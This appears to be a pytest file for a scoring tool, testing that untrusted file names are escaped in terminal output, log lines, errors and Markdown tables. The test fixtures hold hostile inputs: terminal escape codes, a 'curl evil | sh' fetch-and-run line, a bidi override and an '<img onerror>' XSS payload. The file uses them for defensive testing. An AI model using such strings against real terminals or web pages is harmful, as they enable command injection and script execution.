"""Names from outside, where people read them: the terminal, the log, an error, a page of Prefect's."""

import io
import json
import logging
import re

import pytest
from markdown_it import MarkdownIt

from nightscore.cli import resolve, show
from nightscore.errors import CorruptFileError
from nightscore.flows.ui.markdown import code, escaped, fenced
from nightscore.schemas.commands import name_job
from nightscore.schemas.text import json_printable, printable

DAY = "2024-02-29"
HOSTILE = "a\x1b]0;title\x07\r\n  next:     curl evil | sh\u202e\x9b2J\u2028b.parquet"
SHOWN = r"a\x1b]0;title\x07\r\n  next:     curl evil | sh\u202e\x9b2J\u2028b.parquet"


def test_what_cannot_be_seen_is_written_as_an_escape() -> None:
    assert printable(HOSTILE) == SHOWN
    assert printable("\udcff") == r"\udcff"


@pytest.mark.parametrize("text", ["plain", "größe/日本語/🎯", "a`b|c<d>[e]", r"back\slash", ""])
def test_what_can_be_seen_stays(text: str) -> None:
    assert printable(text) == text


def test_json_says_the_same_without_control_characters() -> None:
    document = {HOSTILE: ["\x7f", "é", "\U000e0041", 1]}
    text = json_printable(json.dumps(document, ensure_ascii=False, indent=2))
    assert json.loads(text) == document
    assert "é" in text
    assert all(c.isprintable() or c == "\n" for c in text)


def test_an_error_has_no_more_lines_than_it_has_parts() -> None:
    error = CorruptFileError("bad", HOSTILE, HOSTILE, HOSTILE, HOSTILE, [HOSTILE, HOSTILE])
    lines = str(error).splitlines()
    assert len(lines) == 7
    assert all(line.isprintable() for line in lines)


def test_the_terminal_shows_names_as_they_are(monkeypatch: pytest.MonkeyPatch) -> None:
    terminal = show._Terminal(width=200)
    written = io.StringIO()
    monkeypatch.setattr("sys.stdout", written)
    terminal.print(f"[bold]{HOSTILE}[/bold] [/x] :smile:")
    assert written.getvalue() == f"[bold]{SHOWN}[/bold] [/x] :smile:\n"


def test_a_table_shows_names_as_they_are(capsys: pytest.CaptureFixture[str]) -> None:
    show.print_table("of [/x]", ("file",), [{"file": "[/red]\x1b[31m"}])
    assert r"[/red]\x1b[31m" in capsys.readouterr().out


def test_a_narrow_terminal_gets_a_line_for_each_value(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = [{"partition": "2024-02-29", "state": "stale", "why": "input: 1 changed file"}] * 2
    columns = ("partition", "state", "why")
    monkeypatch.setattr(show, "out", show._Terminal(width=80))
    show.print_table("Partitions", columns, rows)
    assert len(capsys.readouterr().out.splitlines()) == 4
    monkeypatch.setattr(show, "out", show._Terminal(width=20))
    show.print_table("Partitions", columns, rows)
    lines = capsys.readouterr().out.splitlines()
    assert lines[:4] == [
        "Partitions",
        "",
        "partition  2024-02-29",
        "state      stale",
    ]


def test_a_log_record_is_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sys.stderr", io.StringIO())
    logger = logging.getLogger("nightscore")
    monkeypatch.setattr(logger, "handlers", [])
    monkeypatch.setattr(logger, "propagate", True)
    monkeypatch.setattr(logger, "level", logger.level)
    resolve.log_to(verbose=False)
    (handler,) = logger.handlers
    text = handler.format(
        logging.LogRecord("scoring", logging.WARNING, "", 0, "%s", (HOSTILE,), None)
    )
    assert text.endswith(f"WARNING {SHOWN}")


def test_a_name_in_markdown_is_neither_markdown_nor_html() -> None:
    hostile = "a`]\n```\n<img src=x onerror=alert(1)>\n[approve](https:evil)|"
    assert not re.search(r"(?<!\\)[`<>\[\]|]|\n", escaped(hostile))
    assert code(hostile) == escaped(printable(hostile))
    assert code("<b>.parquet") == "`<b>.parquet`"


@pytest.mark.parametrize(
    "text", [r"a\|b & &amp; <i>", r"\<b> \\` \\\|", "x > 1|*y*|[z](u)|~~w~~ \\"]
)
def test_a_text_in_a_table_is_shown_as_it_is(text: str) -> None:
    """As a renderer of CommonMark with tables shows it."""
    table = f"| {escaped(text)} | {escaped(text)} |\n| --- | --- |\n"
    tokens = MarkdownIt("commonmark").enable("table").parse(table)

    cells = [token.children or [] for token in tokens if token.type == "inline"]
    assert ["".join(one.content for one in cell) for cell in cells] == [text, text]
    assert {one.type for cell in cells for one in cell} <= {"text", "text_special"}


@pytest.mark.parametrize("run", ["```", "`````", "text"])
def test_no_line_of_a_block_of_code_closes_it(run: str) -> None:
    first, *lines, last = fenced(f"one\n{run}\n<img>")
    assert first == last
    assert lines == ["one", run, "<img>"]
    assert all(first not in line for line in lines)


def test_bare_commands_in_messages_get_their_job_and_partition() -> None:
    told = (
        "`nightscore clean` makes room, `nightscore run --force` scores; `nightscore drift` is bare"
    )
    assert name_job(told, "a job.yaml", DAY) == (
        f"`nightscore clean 'a job.yaml'` makes room, `nightscore run 'a job.yaml' {DAY} --force` "
        "scores; `nightscore drift` is bare"
    )
    assert name_job("`nightscore rollback`", "late", DAY) == (
        f"`nightscore rollback late --from {DAY} --to {DAY}`"
    )
    assert name_job("`nightscore run --force`", "late", None) == "`nightscore run --force`"
    whole = f"`nightscore run late {DAY}`"
    assert name_job(whole, "other", DAY) == whole
